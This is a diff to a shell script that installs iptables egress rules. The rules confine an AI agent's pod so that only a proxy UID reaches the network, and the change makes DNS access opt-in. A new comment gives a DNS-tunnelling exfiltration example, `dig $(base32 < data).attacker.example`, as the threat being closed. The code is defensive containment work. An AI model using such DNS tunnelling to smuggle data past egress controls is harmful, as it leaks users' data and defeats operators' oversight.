@@ -9,8 +9,14 @@
 #   packets of established or related connections                           ACCEPT
 #   packets of sockets owned by the proxy's UID (-m owner --uid-owner)      ACCEPT
 #   IPv6 neighbour discovery (router/neighbour solicitation, advertisement)  ACCEPT
-#   DNS (udp and tcp 53) to the cluster resolver address(es) only           ACCEPT
+#   DNS (udp and tcp 53) to the resolver address(es) given, only when asked ACCEPT
 #   everything else                                    REJECT (tcp: reset; other: port unreachable)
+#
+# DNS: by default only the proxy's UID reaches a resolver (it resolves what it dials; the agent's
+# clients send host names to the proxy and need no lookups of their own). A resolver that any UID
+# may query recurses for any name, so an agent's `dig $(base32 < data).attacker.example` would carry
+# data out past every rule. --dns ADDR (or --dns resolv: the nameserver lines of resolv.conf) opens
+# it for the few tools that must resolve, knowing that.
 #
 # With --lock-uid (P1: the agent shares the workbench's pod with the user's own processes)
 # only the listed UIDs are refused; other UIDs' packets leave the chain unjudged (RETURN).
@@ -19,11 +25,12 @@
 # added only when missing, so running it again (a restarted init container) leaves one chain,
 # one jump, and no moment without rules.
 #
-# Usage: lockdown.sh [--proxy-uid UID] [--dns ADDR]... [--lock-uid UID]... [--backend B] [--dry-run]
+# Usage: lockdown.sh [--proxy-uid UID] [--dns ADDR|resolv|none]... [--lock-uid UID]... [--backend B] [--dry-run]
 #   --proxy-uid UID  the proxy's UID (env MESA_EGRESS_PROXY_UID; default 65532)
-#   --dns ADDR       a resolver address DNS may go to; repeat for several, or "none" (env
-#                    MESA_EGRESS_DNS, space-separated; default: the nameserver lines of
-#                    /etc/resolv.conf, which in a pod name the cluster resolver)
+#   --dns ADDR       opt-in: a resolver address every UID's DNS may go to; repeat for several;
+#                    "resolv" for the nameserver lines of /etc/resolv.conf (in a pod, the cluster
+#                    resolver); "none" (env MESA_EGRESS_DNS, space-separated; default: none, only
+#                    the proxy's UID resolves)
 #   --lock-uid UID   refuse only this UID (repeatable; env MESA_EGRESS_LOCK_UIDS, space-separated);
 #                    default: refuse every UID but the proxy's
 #   --backend B      auto | nft | legacy (env MESA_EGRESS_IPTABLES; default auto: nft when the
@@ -43,7 +50,7 @@ dns_from_args=false
 lock_from_args=false
 
 say() { printf 'mesa-egress lockdown: %s\n' "$*" >&2; }
-usage_error() { say "$*"; say "usage: lockdown.sh [--proxy-uid UID] [--dns ADDR|none]... [--lock-uid UID]... [--backend auto|nft|legacy] [--dry-run]"; exit 2; }
+usage_error() { say "$*"; say "usage: lockdown.sh [--proxy-uid UID] [--dns ADDR|resolv|none]... [--lock-uid UID]... [--backend auto|nft|legacy] [--dry-run]"; exit 2; }
 
 while [ $# -gt 0 ]; do
   case $1 in
@@ -84,18 +91,21 @@ for uid in $lock_uids; do
   [ "$uid" != "$proxy_uid" ] || usage_error "--lock-uid $uid is the proxy's own UID"
 done
 
-if [ -z "$(printf '%s' "$dns" | tr -d ' ')" ] && [ "$dns_from_args" = false ]; then
-  # A pod's resolv.conf names the cluster resolver (dnsPolicy ClusterFirst).
-  if [ -r "$resolv_conf" ]; then
-    dns=$(sed -n 's/^[[:space:]]*nameserver[[:space:]]\{1,\}\([^[:space:]]*\).*/\1/p' "$resolv_conf" | tr '\n' ' ')
-  fi
-  [ -n "$(printf '%s' "$dns" | tr -d ' ')" ] || usage_error "no resolver: give --dns ADDR (or --dns none); $resolv_conf names none"
-fi
+case " $dns " in
+  *" resolv "*)
+    # A pod's resolv.conf names the cluster resolver (dnsPolicy ClusterFirst).
+    named=""
+    if [ -r "$resolv_conf" ]; then
+      named=$(sed -n 's/^[[:space:]]*nameserver[[:space:]]\{1,\}\([^[:space:]]*\).*/\1/p' "$resolv_conf" | tr '\n' ' ')
+    fi
+    [ -n "$(printf '%s' "$named" | tr -d ' ')" ] || usage_error "--dns resolv: $resolv_conf names no nameserver; give --dns ADDR"
+    dns="$dns $named" ;;
+esac
 dns4=""
 dns6=""
 for addr in $dns; do
   case $addr in
-    none) continue ;;
+    none|resolv) continue ;;
     */*) usage_error "--dns takes single addresses, not networks: '$addr'" ;;
   esac
   addr=${addr%%%*} # a zone index (fe80::1%eth0) cannot be matched
@@ -184,4 +194,5 @@ else
 fi
 
 if [ -n "$lock_uids" ]; then who="UIDs$lock_uids"; else who="every UID but $proxy_uid"; fi
-say "installed with $v4/$v6: egress refused for $who; proxy UID $proxy_uid allowed; DNS to:${dns4}${dns6:- (IPv6 none)}"
+if [ -n "$dns4$dns6" ]; then dns_said="DNS open to every UID toward:${dns4}${dns6}"; else dns_said="DNS for the proxy's UID only"; fi
+say "installed with $v4/$v6: egress refused for $who; proxy UID $proxy_uid allowed; $dns_said"
